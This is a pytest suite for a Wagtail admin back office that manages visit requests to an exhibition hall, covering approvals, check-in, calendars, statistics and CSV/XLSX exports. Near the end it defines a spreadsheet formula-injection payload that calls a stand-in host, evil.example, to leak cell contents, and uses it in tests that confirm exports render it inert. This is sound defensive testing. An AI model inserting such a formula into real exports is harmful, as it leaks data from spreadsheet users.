"""The reception back office in the Wagtail admin."""

import csv
import datetime
import io

import pytest
from openpyxl import load_workbook

from college.visits.models import CalendarFeedToken, Status, VisitRequest, local_today
from tests.accounts.factories import UserFactory

from .factories import GuideFactory, HallFactory, SlotFactory, VisitRequestFactory

pytestmark = [pytest.mark.django_db, pytest.mark.date_sensitive]


@pytest.fixture
def reception(client):
    user = UserFactory(roles=["Reception staff"])
    client.force_login(user)
    return user


def test_learners_cannot_open_the_back_office(client, slot):
    client.force_login(UserFactory(roles=["Learners"]))
    visit = VisitRequestFactory(slot=slot)
    assert client.get(f"/admin/visits/request/{visit.pk}/").status_code in (302, 403)
    assert client.post(f"/admin/visits/request/{visit.pk}/approve/").status_code in (302, 403)
    assert VisitRequest.objects.get(pk=visit.pk).status == Status.PENDING


def test_menu_and_request_list_with_filters(client, reception, slot, hall):
    other_slot = SlotFactory(hall=HallFactory(name="调解中心"), date=slot.date + datetime.timedelta(days=3))
    a = VisitRequestFactory(slot=slot, organisation="甲单位", status=Status.PENDING)
    b = VisitRequestFactory(slot=other_slot, organisation="乙单位", status=Status.APPROVED)
    home = client.get("/admin/").content.decode()
    assert "/admin/visits/calendar/" in home
    listing = client.get("/admin/visits_requests/").content.decode()
    assert "甲单位" in listing and "乙单位" in listing
    assert f"/admin/visits/request/{a.pk}/" in listing
    only_pending = client.get("/admin/visits_requests/", {"status": "pending"}).content.decode()
    assert "甲单位" in only_pending and "乙单位" not in only_pending
    by_hall = client.get("/admin/visits_requests/", {"hall": other_slot.hall_id}).content.decode()
    assert "乙单位" in by_hall and "甲单位" not in by_hall
    searched = client.get("/admin/visits_requests/", {"q": b.code}).content.decode()
    assert "乙单位" in searched and "甲单位" not in searched


def test_approve_from_the_request_page(client, reception, slot, mailoutbox, django_capture_on_commit_callbacks):
    visit = VisitRequestFactory(slot=slot)
    page = client.get(f"/admin/visits/request/{visit.pk}/").content.decode()
    assert visit.code in page and visit.organisation in page
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"/admin/visits/request/{visit.pk}/approve/")
    assert response.status_code == 302
    visit.refresh_from_db()
    assert visit.status == Status.APPROVED
    assert visit.events.get(action="approved").by == reception
    assert len(mailoutbox) == 1


def test_decline_needs_a_reason_and_then_frees_the_places(client, reception, slot):
    visit = VisitRequestFactory(slot=slot, group_size=10)
    response = client.post(f"/admin/visits/request/{visit.pk}/decline/", {"reason": ""})
    assert response.status_code == 200
    assert VisitRequest.objects.get(pk=visit.pk).status == Status.PENDING
    client.post(f"/admin/visits/request/{visit.pk}/decline/", {"reason": "展厅维修"})
    visit.refresh_from_db()
    assert visit.status == Status.DECLINED and visit.decline_reason == "展厅维修"
    assert slot.count_places_taken() == 0


def test_reschedule_and_cancel_from_the_request_page(client, reception, slot, hall):
    other = SlotFactory(hall=hall, date=slot.date + datetime.timedelta(days=1), capacity=5)
    visit = VisitRequestFactory(slot=slot, group_size=4)
    client.post(f"/admin/visits/request/{visit.pk}/reschedule/", {"slot": other.pk})
    assert VisitRequest.objects.get(pk=visit.pk).slot == other
    # a group too big for the slot is refused with the places left
    big = VisitRequestFactory(slot=slot, group_size=3)
    response = client.post(f"/admin/visits/request/{big.pk}/reschedule/", {"slot": other.pk}, follow=True)
    assert VisitRequest.objects.get(pk=big.pk).slot == slot
    assert "1" in response.content.decode()
    client.post(f"/admin/visits/request/{visit.pk}/cancel/", {"reason": "对方取消"})
    assert VisitRequest.objects.get(pk=visit.pk).status == Status.CANCELLED


def test_assigning_a_busy_guide_is_refused(client, reception, slot):
    guide = GuideFactory(name="陈讲解")
    a = VisitRequestFactory(slot=slot, status=Status.APPROVED)
    b = VisitRequestFactory(slot=slot, status=Status.APPROVED)
    client.post(f"/admin/visits/request/{a.pk}/guide/", {"guide": guide.pk})
    response = client.post(f"/admin/visits/request/{b.pk}/guide/", {"guide": guide.pk}, follow=True)
    assert VisitRequest.objects.get(pk=a.pk).guide == guide
    assert VisitRequest.objects.get(pk=b.pk).guide is None
    assert a.code in response.content.decode()


def test_notes_are_added_to_the_history(client, reception, slot):
    visit = VisitRequestFactory(slot=slot)
    client.post(f"/admin/visits/request/{visit.pk}/note/", {"text": "团长电话确认"})
    page = client.get(f"/admin/visits/request/{visit.pk}/").content.decode()
    assert "团长电话确认" in page


def test_check_in_by_code_or_scanned_qr_url(client, reception, hall):
    slot = SlotFactory(hall=hall, date=local_today())
    visit = VisitRequestFactory(slot=slot, group_size=12, status=Status.APPROVED, organisation="嵊州市委政法委")
    by_code = client.get("/admin/visits/check-in/", {"code": visit.code.lower()}).content.decode()
    assert "嵊州市委政法委" in by_code
    scanned = f"http://testserver/visits/status/{visit.code}/"
    by_qr = client.get("/admin/visits/check-in/", {"code": scanned}).content.decode()
    assert "嵊州市委政法委" in by_qr
    client.post(f"/admin/visits/request/{visit.pk}/check_in/", {"headcount": 11, "next": "/admin/visits/check-in/"})
    visit.refresh_from_db()
    assert visit.status == Status.CHECKED_IN and visit.actual_headcount == 11
    unknown = client.get("/admin/visits/check-in/", {"code": "ZZZZ"}).content.decode()
    assert "ZZZZ" in unknown


def test_bad_headcount_is_refused(client, reception, hall):
    slot = SlotFactory(hall=hall, date=local_today())
    visit = VisitRequestFactory(slot=slot, group_size=12, status=Status.APPROVED)
    for bad in ("0", "-1", "abc", ""):
        response = client.post(f"/admin/visits/request/{visit.pk}/check_in/", {"headcount": bad})
        assert response.status_code == 200
    assert VisitRequest.objects.get(pk=visit.pk).status == Status.APPROVED


def test_no_show_after_the_visit(client, reception, hall):
    slot = SlotFactory(hall=hall, date=local_today() - datetime.timedelta(days=1))
    visit = VisitRequestFactory(slot=slot, status=Status.APPROVED)
    client.post(f"/admin/visits/request/{visit.pk}/no_show/")
    assert VisitRequest.objects.get(pk=visit.pk).status == Status.NO_SHOW


def test_unknown_action_is_refused(client, reception, slot):
    visit = VisitRequestFactory(slot=slot)
    assert client.post(f"/admin/visits/request/{visit.pk}/delete_everything/").status_code in (302, 403)
    assert VisitRequest.objects.get(pk=visit.pk).status == Status.PENDING


def test_roster_download_as_xlsx(client, reception, slot):
    from college.visits import services

    from .factories import VisitDetailsFactory

    visit, _ = services.request_visit(slot.pk, VisitDetailsFactory(group_size=3))
    response = client.get(f"/admin/visits/request/{visit.pk}/roster.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)] == ["访客0", "访客1", "访客2"]


def test_calendar_week_and_month_show_places_taken_and_left(client, reception, slot):
    VisitRequestFactory(slot=slot, group_size=7, organisation="新昌县司法局")
    week = client.get("/admin/visits/calendar/", {"view": "week", "date": slot.date.isoformat()}).content.decode()
    assert "新昌县司法局" in week and "7" in week and "13" in week
    month = client.get("/admin/visits/calendar/", {"view": "month", "date": slot.date.isoformat()})
    assert month.status_code == 200 and f'data-slot="{slot.pk}"' in month.content.decode()
    assert client.get("/admin/visits/calendar/", {"date": "nonsense"}).status_code == 200


def test_statistics_with_svg_chart_and_csv(client, reception, hall, settings):
    settings.COLLEGE_VISITS_ANNUAL_TARGET = 1000
    year = local_today().year
    march = SlotFactory(hall=hall, date=datetime.date(year, 3, 10))
    VisitRequestFactory(
        slot=march,
        group_size=30,
        status=Status.CHECKED_IN,
        actual_headcount=28,
        group_type="inspection",
        province="浙江",
    )
    VisitRequestFactory(
        slot=march, group_size=10, status=Status.CHECKED_IN, actual_headcount=10, group_type="study", province="江苏"
    )
    VisitRequestFactory(slot=march, group_size=10, status=Status.DECLINED)
    page = client.get("/admin/visits/statistics/", {"year": year}).content.decode()
    assert "<svg" in page and "3.8%" in page
    assert "<script" not in page.split("<svg", 1)[1].split("</svg>", 1)[0]
    response = client.get("/admin/visits/statistics.csv", {"year": year})
    assert response["Content-Type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    march_row = [r for r in rows if r[1] == f"{year}-03"][0]
    assert march_row[2:4] == ["2", "38"]
    assert [r for r in rows if r[3] == "1000"]
    assert any(r[1] == "浙江" and r[3] == "28" for r in rows)


def test_secret_calendar_feed_address_can_be_made_and_replaced(client, reception):
    client.post("/admin/visits/feed/")
    first = CalendarFeedToken.objects.get(user=reception).token
    page = client.get("/admin/visits/feed/").content.decode()
    assert f"/api/visits/feed/{first}.ics" in page
    client.post("/admin/visits/feed/")
    assert CalendarFeedToken.objects.get(user=reception).token != first
    assert client.get(f"/api/visits/feed/{first}.ics").status_code == 404


def test_halls_slots_and_guides_are_managed_in_the_admin(client, reception, slot):
    for url in (
        "/admin/visit_halls/",
        "/admin/visit_slots/",
        "/admin/visit_guides/",
        "/admin/visit_opening_rules/",
        "/admin/visit_closed_days/",
    ):
        assert client.get(url).status_code == 200, url
    assert "枫桥经验陈列馆" in client.get("/admin/visit_slots/").content.decode()
    response = client.post(
        "/admin/visit_guides/new/",
        {
            "name": "周讲解",
            "name_en": "Zhou",
            "phone": "",
            "languages": "普通话",
            "is_active": "on",
            "availability-TOTAL_FORMS": "1",
            "availability-INITIAL_FORMS": "0",
            "availability-MIN_NUM_FORMS": "0",
            "availability-MAX_NUM_FORMS": "1000",
            "availability-0-weekday": "1",
            "availability-0-start": "09:00",
            "availability-0-end": "17:00",
            "availability-0-ORDER": "1",
        },
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    from college.visits.models import Guide

    assert Guide.objects.get(name="周讲解").availability.count() == 1


def test_slot_capacity_cannot_drop_below_the_people_booked(client, reception, slot):
    VisitRequestFactory(slot=slot, group_size=12)
    response = client.post(
        f"/admin/visit_slots/edit/{slot.pk}/",
        {
            "hall": slot.hall_id,
            "date": slot.date.isoformat(),
            "start": "09:00",
            "end": "10:30",
            "capacity": "10",
            "is_open": "on",
        },
    )
    assert response.status_code == 200
    assert "12" in response.content.decode()
    slot.refresh_from_db()
    assert slot.capacity == 20


def test_a_booked_slot_cannot_be_deleted(client, reception, slot):
    from college.visits.models import Slot

    VisitRequestFactory(slot=slot, group_size=2)
    response = client.post(f"/admin/visit_slots/delete/{slot.pk}/")
    assert response.status_code < 500
    assert Slot.objects.filter(pk=slot.pk).exists()


def test_request_list_exports_as_csv(client, reception, slot):
    VisitRequestFactory(slot=slot, organisation="导出单位", status=Status.APPROVED)
    response = client.get("/admin/visits_requests/", {"export": "csv", "status": "approved"})
    assert response.status_code == 200
    content = (
        b"".join(response.streaming_content).decode("utf-8-sig") if response.streaming else response.content.decode()
    )
    assert "导出单位" in content and slot.hall.name in content


FORMULA = '=HYPERLINK("http://evil.example/?a="&A1,"x")'


def test_a_formula_typed_as_work_unit_is_inert_in_the_request_list_csv(client, reception, slot):
    VisitRequestFactory(slot=slot, organisation=FORMULA, status=Status.APPROVED)
    response = client.get("/admin/visits_requests/", {"export": "csv"})
    data = b"".join(response.streaming_content)
    assert data.startswith(b"\xef\xbb\xbf")  # a BOM, so that Excel reads the Chinese headings
    header, row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    cell = row[header.index("工作单位")]
    assert cell == "'" + FORMULA and not cell.startswith("=")


def test_a_formula_typed_as_work_unit_is_inert_in_the_roster_xlsx(client, reception, slot):
    from college.visits import services

    from .factories import VisitDetailsFactory

    visit, _ = services.request_visit(slot.pk, VisitDetailsFactory(group_size=2, organisation=FORMULA))
    response = client.get(f"/admin/visits/request/{visit.pk}/roster.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    cells = [row[2] for row in sheet.iter_rows(min_row=2)]
    assert len(cells) == 2
    for cell in cells:
        assert cell.data_type == "s" and cell.value == "'" + FORMULA
